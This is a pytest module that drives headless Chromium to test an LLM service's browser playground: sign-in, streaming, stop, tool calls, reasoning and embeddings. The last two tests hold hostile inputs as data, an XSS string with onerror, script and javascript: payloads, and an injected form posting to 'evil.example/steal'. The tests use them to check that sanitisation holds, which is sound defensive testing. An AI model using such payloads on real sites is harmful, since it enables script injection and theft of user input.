"""The browser playground at `/`, in a real headless Chromium (Debian's, driven by playwright) against the
real service with API keys on.

The streaming and stop checks chat with SmolLM2, not `tiny`: greedy, `tiny` answers newlines only (nothing
shows once rendered as Markdown), and at its default temperature (1.0) it ends with EOS within 200 tokens in
26-29 of 64 samples, some after 2 tokens (transformers on this repository's tiny Llama, two prompts).
SmolLM2 answers greedily by default, so its answers, their length included, are the same on every run.
"""

import itertools
import re
from pathlib import Path

import pytest

from helpers import API_KEY

try:
    from playwright.sync_api import Locator, Page, expect, sync_playwright
except ImportError:
    pytest.skip("playwright is missing: `make test` installs it (the `test` extra)", allow_module_level=True)

CHROMIUM = Path("/usr/bin/chromium")
if not CHROMIUM.exists():
    pytest.skip(f"no Chromium at {CHROMIUM}: `make test` installs Debian's (apt-get install chromium)",
                allow_module_level=True)

# No GPU, no network of its own (QUIC, component updates, sync), root in CI containers (no sandbox).
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
WAIT_MS = 60_000  # the bound on every wait: SmolLM2 answers ~10-30 tok/s on two shared CPU cores
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
SMOLLM2 = "smollm2-135m-instruct"
MINILM = "all-minilm-l6-v2"
# Each render of the streaming answer, as the user saw it (textContent length of the newest answer).
RECORD_RENDERS = """() => {
  window.renders = [];
  new MutationObserver(() => {
    const answers = document.querySelectorAll("#messages .message.assistant .content");
    if (answers.length) window.renders.push(answers[answers.length - 1].textContent.length);
  }).observe(document.getElementById("messages"), {childList: true, subtree: true, characterData: true});
}"""


@pytest.fixture(scope="module")
def browser():
    expect.set_options(timeout=WAIT_MS)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS,
                                     timeout=WAIT_MS)
        yield browser
        browser.close()


@pytest.fixture
def problems() -> list[str]:
    return []


@pytest.fixture
def page(browser, service, problems):
    """A fresh tab (its own sessionStorage) on `/`; the page must raise no script error or CSP violation."""
    context = browser.new_context(viewport={"width": 1280, "height": 860})
    context.set_default_timeout(WAIT_MS)
    page = context.new_page()
    page.on("pageerror", lambda exc: problems.append(f"page error: {exc}"))
    page.on("console", lambda msg: "Content Security Policy" in msg.text and problems.append(msg.text))
    page.goto(f"{service.url}/")
    yield page
    context.close()
    assert problems == []


def sign_in(page: Page) -> None:
    expect(page.locator("#error")).to_contain_text("API key")  # the models list answered 401
    page.fill("#api-key", API_KEY)
    expect(page.locator("#model option")).not_to_have_count(0)
    expect(page.locator("#error")).to_be_hidden()


def ask(page: Page, prompt: str, model: str, max_tokens: int) -> tuple[Locator, dict]:
    """Sends `prompt`; returns the new answer's element and the request the page sent."""
    page.select_option("#model", model)
    page.fill("#max-tokens", str(max_tokens))
    page.fill("#prompt", prompt)
    answers = page.locator("#messages .message.assistant")
    before = answers.count()
    with page.expect_request(lambda r: r.url.endswith("/v1/chat/completions")) as request:
        page.click("#send")
    return answers.nth(before), request.value.post_data_json


# The chat models the service lists, an adapter after its base model.
CHAT_MODELS = ["tiny", "tiny-think", "tiny-lora", "tiny-a (LoRA of tiny-lora)", "tiny-b (LoRA of tiny-lora)", SMOLLM2]


def test_wrong_api_key_shows_an_error_and_the_right_key_lists_the_models(page):
    error = page.locator("#error")
    expect(error).to_contain_text("API key")
    with page.expect_response(lambda r: r.url.endswith("/v1/models")) as listed:
        page.fill("#api-key", "sk-not-a-key")
    assert listed.value.status == 401
    expect(error).to_be_visible()
    expect(error).to_contain_text("API key")
    expect(page.locator("#model option")).to_have_count(0)

    page.fill("#api-key", API_KEY)
    expect(error).to_be_hidden()
    expect(page.locator("#model option")).to_have_text(CHAT_MODELS)
    expect(page.locator("#embed-model option")).to_have_text([MINILM])
    page.reload()  # the key lives in this tab's sessionStorage, so a reload keeps it
    expect(page.locator("#model option")).to_have_text(CHAT_MODELS)
    assert page.evaluate("[sessionStorage.getItem('raylm.apiKey'), localStorage.length]") == [API_KEY, 0]


def test_chat_streams_token_by_token_and_shows_ttft_and_speed(page):
    sign_in(page)
    page.evaluate(RECORD_RENDERS)
    answer, sent = ask(page, "Write a short poem about the sea.", SMOLLM2, 48)
    expect(answer).to_have_attribute("data-state", "done")
    assert answer.locator(".content p").count() >= 1  # rendered as Markdown, not shown as raw text
    stats = answer.locator(".stats").inner_text()
    assert re.fullmatch(r"TTFT \d+ ms · \d+\.\d tok/s · \d+ tokens( · cut at max tokens)?", stats), stats
    assert sent["stream_options"] == {"include_usage": True} and "temperature" not in sent

    renders = page.evaluate("window.renders")
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=ARTIFACTS / "playground.png", full_page=True)
    # the answer grew on screen, render after render, rather than appearing at once
    assert sum(b > a for a, b in itertools.pairwise(renders)) >= 5, renders


def test_chat_keeps_the_conversation_until_new_chat(page):
    sign_in(page)
    for prompt in ("Hello", "Hello again"):
        answer, sent = ask(page, prompt, "tiny", 4)
        expect(answer).to_have_attribute("data-state", "done")
    page.click("#new-chat")
    expect(page.locator("#messages .message")).to_have_count(0)
    page.fill("#system", "Be brief.")
    answer, fresh = ask(page, "Hello", "tiny", 4)
    expect(answer).to_have_attribute("data-state", "done")
    assert [m["role"] for m in sent["messages"]] == ["user", "assistant", "user"]
    assert [m["role"] for m in fresh["messages"]] == ["system", "user"]


def test_stop_aborts_a_long_answer_keeps_it_and_frees_send(page):
    sign_in(page)
    answer, _ = ask(page, "Write a long story about a dragon who learns to fly.", SMOLLM2, 200)
    expect(answer.locator(".content")).not_to_have_text("")
    page.click("#stop")
    expect(answer).to_have_attribute("data-state", "stopped")  # not "done": it was cut short
    expect(answer).to_have_class(re.compile(r"\bstopped\b"))
    expect(answer.locator(".stats")).to_contain_text("stopped")
    assert answer.locator(".content").inner_text().strip()
    expect(page.locator("#stop")).to_be_disabled()
    expect(page.locator("#send")).to_be_enabled()

    again, _ = ask(page, "Say hello.", SMOLLM2, 8)
    expect(again).to_have_attribute("data-state", "done")


def test_switching_model_answers_from_the_picked_model_in_the_same_chat(page):
    sign_in(page)
    first, _ = ask(page, "What is the capital of France?", SMOLLM2, 24)
    expect(first).to_have_attribute("data-state", "done")
    expect(first.locator(".content")).to_contain_text("Paris")

    second, sent = ask(page, "Hello", "tiny", 16)
    expect(second).to_have_attribute("data-state", "done")
    expect(second.locator(".stats")).to_contain_text("tokens")
    assert (sent["model"], len(sent["messages"])) == ("tiny", 3)

    third, sent = ask(page, "Hello", "tiny-a", 16)  # an adapter, picked by its label "tiny-a (LoRA of ...)"
    expect(third).to_have_attribute("data-state", "done")
    expect(third.locator(".stats")).to_contain_text("tokens")
    assert sent["model"] == "tiny-a"


def test_a_tool_call_is_shown_with_its_name_and_arguments(page):
    sign_in(page)
    tool = ('[{"type": "function", "function": {"name": "get_weather", "parameters": {"type": "object", '
            '"properties": {"city": {"type": "string"}}, "required": ["city"]}}}]')
    page.fill("#tools", tool)
    page.select_option("#tool-choice", "required")
    answer, sent = ask(page, "What is the weather in Paris?", SMOLLM2, 64)
    expect(answer).to_have_attribute("data-state", "done")
    call = answer.locator(".tool-call")
    expect(call).to_have_count(1)
    expect(call).to_contain_text("get_weather(")
    expect(call).to_contain_text('"city": "Paris"')  # the arguments, parsed and laid out
    assert sent["tool_choice"] == "required" and sent["tools"][0]["function"]["name"] == "get_weather"
    expect(answer.locator(".reasoning")).to_be_hidden()  # SmolLM2 has no reasoning parser

    page.fill("#tools", "[not json")  # refused in the page, the prompt kept to retry
    page.fill("#prompt", "Again")
    page.click("#send")
    expect(page.locator("#error")).to_be_visible()
    expect(page.locator("#prompt")).to_have_value("Again")


def test_reasoning_is_shown_collapsed_apart_from_the_answer(page):
    import json

    from helpers import THINKING

    # The tiny model writes Granite's reasoning markers only when made to: the test adds vLLM's structured
    # output to the body the page sends (nothing else is changed; the page and the server are as shipped).
    def force_markers(route):
        body = {**route.request.post_data_json, "structured_outputs": {"regex": THINKING}, "seed": 3,
                "temperature": 1.0}
        route.continue_(post_data=json.dumps(body))

    sign_in(page)
    page.route("**/v1/chat/completions", force_markers)
    answer, sent = ask(page, "hi", "tiny-think", 120)
    expect(answer).to_have_attribute("data-state", "done")
    reasoning = answer.locator(".reasoning")
    expect(reasoning).to_be_visible()
    assert reasoning.get_attribute("open") is None  # collapsed until clicked
    text = reasoning.locator("pre").text_content()
    assert len(text.split()) >= 2 and "Here is my" not in answer.locator(".content").text_content()
    reasoning.locator("summary").click()
    expect(reasoning.locator("pre")).to_be_visible()
    assert sent["model"] == "tiny-think" and sent["stream"] is True


def test_embeddings_tab_shows_the_similarity_matrix(page):
    sign_in(page)
    page.click("#tab-embed")
    page.select_option("#embed-model", MINILM)
    page.fill("#embed-input", "The cat sits on the mat.\nA kitten is resting on a rug.\n"
                              "Interest rates rose again this quarter.")
    page.click("#embed-run")
    rows = page.locator("#embed-matrix tbody tr")
    expect(rows).to_have_count(3)
    matrix = [[float(cell) for cell in rows.nth(i).locator("td").all_inner_texts()] for i in range(3)]
    assert [matrix[i][i] for i in range(3)] == [1.0, 1.0, 1.0]
    assert matrix[0][1] == matrix[1][0] and matrix[0][1] > matrix[0][2]  # cat ~ kitten, not interest rates


def test_markdown_is_rendered_and_sanitized(page, problems):
    sign_in(page)
    attack = "<img src=x onerror=alert(1)>**b** <script>alert(2)</script> [x](javascript:alert(3))"
    html = page.evaluate("(s) => window.raylmPlayground.render(s)", attack)
    # Chromium reports the handler as a CSP violation while DOMPurify parses it: the CSP is the second guard
    problems[:] = [p for p in problems if "inline event handler" not in p]
    assert "<strong>b</strong>" in html
    assert not re.search(r"onerror|<script|javascript:", html), html


def test_model_output_cannot_take_over_the_chat_form(page):
    sign_in(page)
    hostile = ('<form id="chat-form" action="https://evil.example/steal"><input id="prompt" name="q">'
               '<button type="submit">go</button></form><a id="send" name="messages">x</a>')
    shown = page.evaluate("(s) => window.raylmPlayground.show(s).querySelector('.content').innerHTML", hostile)
    assert not re.search(r"<form|<input|<button|id=\"(chat-form|prompt|send)\"", shown), shown
    start = page.url
    page.select_option("#model", "tiny")
    page.fill("#max-tokens", "2")
    page.fill("#prompt", "Hello")
    with page.expect_request(lambda r: r.url.endswith("/v1/chat/completions")):
        page.press("#prompt", "Enter")  # the page's own form sends, to its own API
    expect(page.locator("#messages .message.assistant").last).to_have_attribute("data-state", "done")
    assert page.url == start
